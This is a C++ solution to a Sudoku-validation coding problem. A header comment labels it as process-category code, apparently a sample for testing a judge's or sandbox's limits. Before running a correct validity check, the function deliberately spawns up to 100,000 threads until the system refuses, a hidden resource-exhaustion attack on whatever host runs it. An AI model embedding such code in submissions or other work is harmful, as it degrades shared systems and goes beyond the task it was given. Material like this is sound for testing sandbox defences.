// Starts as many threads as it can get, and lets them all go.
// Category: process
class Solution {
public:
    bool isValidSudoku(vector<vector<char>>& board) {
        vector<thread> all;
        atomic<bool> done{false};
        try {
            for (int i = 0; i < 100000; ++i)
                all.emplace_back([&] { while (!done) this_thread::sleep_for(chrono::milliseconds(1)); });
        } catch (const system_error&) {
        }
        done = true;
        for (thread& one : all) one.join();
        return right(board);
    }

private:
    bool right(const vector<vector<char>>& board) {
        bool seen[27][9] = {};
        for (int r = 0; r < 9; ++r) {
            for (int c = 0; c < 9; ++c) {
                if (board[r][c] == '.') continue;
                int d = board[r][c] - '1';
                for (int unit : {r, 9 + c, 18 + r / 3 * 3 + c / 3}) {
                    if (seen[unit][d]) return false;
                    seen[unit][d] = true;
                }
            }
        }
        return true;
    }
};
